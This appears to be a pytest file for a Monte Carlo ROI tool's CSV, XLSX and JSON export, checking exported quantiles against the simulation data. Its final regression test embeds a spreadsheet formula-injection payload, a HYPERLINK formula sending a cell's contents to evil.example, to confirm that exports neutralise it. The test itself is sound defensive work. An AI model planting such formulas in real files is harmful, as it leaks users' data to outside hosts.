"""Export: tidy rows read back with csv, openpyxl and json equal the run's own quantiles."""

from __future__ import annotations

import csv
import io
import json
import math

import numpy as np
import openpyxl
import pytest
import scipy.stats as st

from mcroi import runs
from tests import compare_cases
from tests.helpers import (
    assert_one_line_error,
    cli,
    is_number_text,
    mcroi_subprocess,
    reference_doc,
    to_toml,
    write_priors,
)

PCTS = "2.5,10,50,90,97.5"
PCT_VALUES = (2.5, 10.0, 50.0, 90.0, 97.5)
LINE_ITEMS = dict(runs.LINE_ITEMS)


def oracle(x: np.ndarray, p: float) -> float:
    """The documented rule: non-NaN draws; 'linear', or 'inverted_cdf' with infinities."""
    x = np.asarray(x, dtype=float).ravel()
    x = x[~np.isnan(x)]
    if not x.size:
        return math.nan  # every draw undefined (no rent given, say): no percentile
    return float(np.percentile(x, p, method="linear" if np.isfinite(x).all() else "inverted_cdf"))


def expected(ds, scenario: str, metric: str, period: str, statistic: str) -> float:
    sub = ds.sel(platform=scenario) if "platform" in ds.dims else ds
    var = {v: k for k, v in LINE_ITEMS.items()}.get(metric, metric)
    a = sub[var].values
    if a.ndim == 2:
        years = [j for j in range(a.shape[1]) if not np.isnan(a[:, j]).all()]
        a = a[:, years].sum(axis=1) if period == "total" else a[:, list(sub.year.values).index(int(period))]
    if statistic == "mean":
        f = a[np.isfinite(a)]
        return float(f.mean()) if f.size else math.nan  # no finite draw: no mean
    return oracle(a, float(statistic[1:]))


def parse(v: str) -> float:
    return math.nan if v == "" else float(v)


def check_rows(ds, rows) -> int:
    """Every row's value equals the oracle; returns the number of rows checked."""
    n = 0
    for r in rows:
        want = expected(ds, r["scenario"], r["metric"], str(r["period"]), r["statistic"])
        got = r["value"]
        got = (
            math.nan
            if got is None
            else (math.inf if got in ("inf", "never", "no debt") else (-math.inf if got == "-inf" else float(got)))
        )
        if math.isnan(want):
            assert math.isnan(got), r
        else:
            assert got == pytest.approx(want, rel=1e-12, abs=1e-9), r
        n += 1
    return n


@pytest.fixture(scope="module")
def simulate_exports(simulate_run, tmp_path_factory):
    out = tmp_path_factory.mktemp("exports")
    paths = {}
    for fmt in ("csv", "json", "xlsx"):
        res = cli("export", simulate_run["out"], "--format", fmt, "--percentiles", PCTS, "--out", out / f"x.{fmt}")
        assert res.exit_code == 0, res.output
        paths[fmt] = out / f"x.{fmt}"
    return paths


def test_csv_equals_quantiles_of_the_dataset(simulate_run, simulate_exports):
    ds = simulate_run["ds"]
    with open(simulate_exports["csv"], newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == list(runs.COLUMNS)
    rows = [{**r, "value": None if r["value"] == "" else r["value"]} for r in rows]
    n = check_rows(ds, rows)
    metrics = {r["metric"] for r in rows}
    assert {"npv_usd", "irr_annual", "payback_months", "cost_per_mtok_usd"} <= metrics
    assert set(LINE_ITEMS.values()) <= metrics
    assert {r["statistic"] for r in rows} == {"mean", "p2.5", "p10", "p50", "p90", "p97.5"}
    assert {r["period"] for r in rows if r["metric"] == "revenue_usd"} == {"1", "2", "3", "4", "5", "total"}
    assert n == len(rows) > 100


def test_percentile_of_a_sum_is_not_the_sum_of_percentiles(simulate_run, simulate_exports):
    with open(simulate_exports["csv"], newline="") as fh:
        rows = [r for r in csv.DictReader(fh) if r["metric"] == "cashflow_usd" and r["statistic"] == "p10"]
    years = sum(float(r["value"]) for r in rows if r["period"] != "total")
    total = next(float(r["value"]) for r in rows if r["period"] == "total")
    # year-by-year P10s come from different draws: their sum is far below the P10 of the total
    assert years < total
    ds = simulate_run["ds"]
    np.testing.assert_allclose(total, np.percentile(ds.annual_cashflow_usd.values.sum(axis=1), 10), rtol=1e-12)


def test_xlsx_read_back_with_openpyxl(simulate_run, simulate_exports):
    ds, man = simulate_run["ds"], simulate_run["manifest"]
    wb = openpyxl.load_workbook(simulate_exports["xlsx"], read_only=True)
    assert wb.sheetnames == ["budget", "totals", "annual", "assumptions", "about"]
    n = 0
    for name in ("totals", "annual"):
        it = wb[name].iter_rows(values_only=True)
        header = next(it)
        assert header == runs.COLUMNS
        n += check_rows(ds, [dict(zip(header, r, strict=True)) for r in it])
    assert n > 100
    about = dict(wb["about"].iter_rows(min_row=2, values_only=True))
    assert about["schema_version"] == runs.SCHEMA_VERSION
    assert about["seed"] == compare_cases.SEED and about["draws"] == 1500
    assert about["priors_sha256"] == man["priors_sha256"]
    assert about["reproduce"].startswith("mcroi simulate") and "--seed 3" in about["reproduce"]
    assert about["version.jax"] == man["versions"]["jax"]


def test_budget_sheet_has_p10_p50_p90_per_year_as_formatted_numbers(simulate_run, simulate_exports):
    """The README's promise: P10/P50/P90 tables per year and in total, cells numbers with a format."""
    ds = simulate_run["ds"]
    wb = openpyxl.load_workbook(simulate_exports["xlsx"])
    ws = wb["budget"]
    header = [c.value for c in ws[1]]
    years = ds.sizes["year"]
    assert header == ["scenario", "metric", "statistic", "unit", *(f"year {y}" for y in range(1, years + 1)), "total"]
    rows = {(r[1].value, r[2].value): r for r in ws.iter_rows(min_row=2)}
    rev = ds["annual_revenue_usd"].values
    for stat, q in (("p10", 0.1), ("p50", 0.5), ("p90", 0.9)):
        r = rows[("revenue_usd", stat)]
        np.testing.assert_allclose(r[4].value, np.quantile(rev[:, 0], q), rtol=1e-12, atol=1e-6)
        np.testing.assert_allclose(r[-1].value, np.quantile(rev.sum(axis=1), q), rtol=1e-12, atol=1e-6)
        assert isinstance(r[4].value, float) and r[4].number_format != "General"


def test_no_mean_irr_and_never_is_text_in_xlsx(simulate_run, simulate_exports):
    wb = openpyxl.load_workbook(simulate_exports["xlsx"], read_only=True)
    rows = list(wb["totals"].iter_rows(min_row=2, values_only=True))
    assert not [r for r in rows if r[1] == "irr_annual" and r[3] == "mean"], "a mean IRR is no budget figure"
    assert [r for r in rows if r[1] == "irr_annual" and r[3] == "p50"]
    for r in rows:
        assert r[4] != "inf", r  # never the string 'inf' in the value column


def test_assumptions_sheet(simulate_run, simulate_exports):
    ds = simulate_run["ds"]
    wb = openpyxl.load_workbook(simulate_exports["xlsx"], read_only=True)
    it = wb["assumptions"].iter_rows(values_only=True)
    header = next(it)
    assert header == runs.ASSUMPTION_COLUMNS
    rows = {r[1]: dict(zip(header, r, strict=True)) for r in it}
    assert set(ds.input.values) <= set(rows)
    tps = rows["throughput.output_tokens_per_s_per_gpu"]
    assert tps["family"] == "uniform" and json.loads(tps["parameters"]) == {"min": 600, "max": 1400}
    draws = ds.inputs.sel(input="throughput.output_tokens_per_s_per_gpu").values
    n = draws.size
    for q, col in ((0.1, "p10"), (0.5, "p50"), (0.9, "p90")):
        assert tps[col] == pytest.approx(np.quantile(draws, q), rel=1e-12)
        # and the inverse CDF, within 4 order-statistic standard errors (density 1/800 on U(600, 1400))
        assert abs(tps[col] - st.uniform(600, 800).ppf(q)) < 4 * math.sqrt(q * (1 - q) / n) * 800
    price = rows["price.usd_per_mtok_output"]
    assert price["family"] == "lognormal"
    assert rows["cluster.gpus"]["family"] == "constant" and rows["cluster.gpus"]["p50"] == 1000
    assert rows["finance.horizon_months"]["p50"] == 60


def test_json_has_the_same_content_and_a_schema_version(simulate_run, simulate_exports):
    doc = json.loads(simulate_exports["json"].read_text())
    assert doc["schema"] == "mcroi.export" and doc["schema_version"] == 1
    assert doc["columns"] == list(runs.COLUMNS)
    assert set(doc["tables"]) == {"totals", "annual"}
    n = check_rows(simulate_run["ds"], doc["tables"]["totals"] + doc["tables"]["annual"])
    with open(simulate_exports["csv"], newline="") as fh:
        assert n == len(list(csv.DictReader(fh)))
    assert doc["about"]["seed"] == compare_cases.SEED
    assert {a["input"] for a in doc["assumptions"]} >= set(simulate_run["ds"].input.values)


def test_compare_run_export(compare_run, tmp_path):
    ds, s = compare_run["ds"], compare_run["summary"]
    res = cli("export", compare_run["out"], "--format", "json", "--out", tmp_path / "c.json")
    assert res.exit_code == 0, res.output
    doc = json.loads((tmp_path / "c.json").read_text())
    rows = doc["tables"]["totals"] + doc["tables"]["annual"]
    assert {r["scenario"] for r in rows} == {"hopper", "blackwell", "hopper-2"}
    check_rows(ds, rows)
    vs = {(r["scenario"], r["metric"], r["statistic"]): r["value"] for r in doc["tables"]["vs_baseline"]}
    assert vs[("blackwell", "npv_above_baseline", "mean")] == s["vs_baseline"]["blackwell"]["p_npv_above_baseline"]["p"]
    d = ds.npv_usd.sel(platform="blackwell").values - ds.npv_usd.sel(platform="hopper").values
    assert vs[("blackwell", "npv_difference_vs_baseline_usd", "p50")] == pytest.approx(np.percentile(d, 50), rel=1e-12)
    assert vs[("hopper-2", "npv_difference_vs_baseline_usd", "p95")] == 0.0
    assert {a["scenario"] for a in doc["assumptions"]} == {"hopper", "blackwell", "hopper-2"}
    assert doc["about"]["reproduce"].startswith("mcroi compare") and doc["about"]["baseline"] == "hopper"


def test_default_destination_and_stdout(simulate_run):
    res = cli("export", simulate_run["out"])
    assert res.exit_code == 0, res.output
    assert (simulate_run["out"] / "export.csv").is_file()
    res = cli("export", simulate_run["out"], "-o", "-", "-p", "50")
    assert res.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(res.output)))
    assert {r["statistic"] for r in rows} == {"mean", "p50"}


def test_export_through_a_real_subprocess(simulate_run):
    res = mcroi_subprocess("export", simulate_run["out"], "-o", "-", "-f", "json", "-p", "5,95", timeout=120)
    assert res.returncode == 0, res.stderr
    assert json.loads(res.stdout)["schema_version"] == 1


@pytest.mark.parametrize(
    "args, needle",
    [
        (["{run}", "--percentiles", "5,abc"], "--percentiles = '5,abc': 'abc' is not a number"),
        (["{run}", "--percentiles", "5,150"], "outside 0..100"),
        (["{run}", "--percentiles", ""], "empty"),
        (["{run}", "--format", "pdf"], "--format = pdf: unknown format"),
        (["{run}", "--format", "xlsx", "--out", "-"], "xlsx cannot go to stdout"),
        (["{missing}"], "no such run folder"),
    ],
)
def test_bad_input_is_one_line_exit_2(simulate_run, tmp_path, args, needle):
    argv = ["export", *(a.format(run=simulate_run["out"], missing=tmp_path / "nope") for a in args)]
    assert_one_line_error(cli(*argv), needle)


def test_parse_percentiles():
    assert runs.parse_percentiles("95, 5,50,5") == (5.0, 50.0, 95.0)
    assert runs.parse_percentiles("0,100") == (0.0, 100.0)
    assert [runs.stat_name(p) for p in PCT_VALUES] == ["p2.5", "p10", "p50", "p90", "p97.5"]
    with pytest.raises(ValueError, match="not a number"):
        runs.parse_percentiles("5,,10")
    with pytest.raises(ValueError, match="outside"):
        runs.parse_percentiles("-1")


def test_no_export_cell_of_a_hostile_priors_file_is_a_formula(tmp_path):
    """Issue 18: a scenario name or source beginning with = + - @ went into export.csv as is and into
    export.xlsx as a live formula (a HYPERLINK that leaks a cell to an outside site)."""
    evil = '=HYPERLINK("http://evil.example/?leak="&A1, "details")'
    doc = reference_doc(
        price={"usd_per_mtok_output": {"dist": "uniform", "min": 1.0, "max": 3.0, "source": "@SUM(1+1)"}}
    )
    text = "[scenario]\nname = " + json.dumps(evil) + "\n" + to_toml(doc)
    src = write_priors(tmp_path, text, "evil.toml")
    run = tmp_path / "run"
    assert cli("simulate", src, "-n", 500, "-o", run, "-q").exit_code == 0
    for fmt in ("csv", "xlsx"):
        assert cli("export", run, "--format", fmt).exit_code == 0
    wb = openpyxl.load_workbook(run / "export.xlsx")
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
    assert evil in texts and "@SUM(1+1)" in texts  # kept, as text
    rows = list(csv.reader((run / "export.csv").read_text().splitlines()))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], [c for c in cells if c[:1] in ("=", "+", "@")][:3]
    assert "'" + evil in cells
    assert all(not c.startswith("-") or c in ("-inf",) or is_number_text(c) for c in cells)
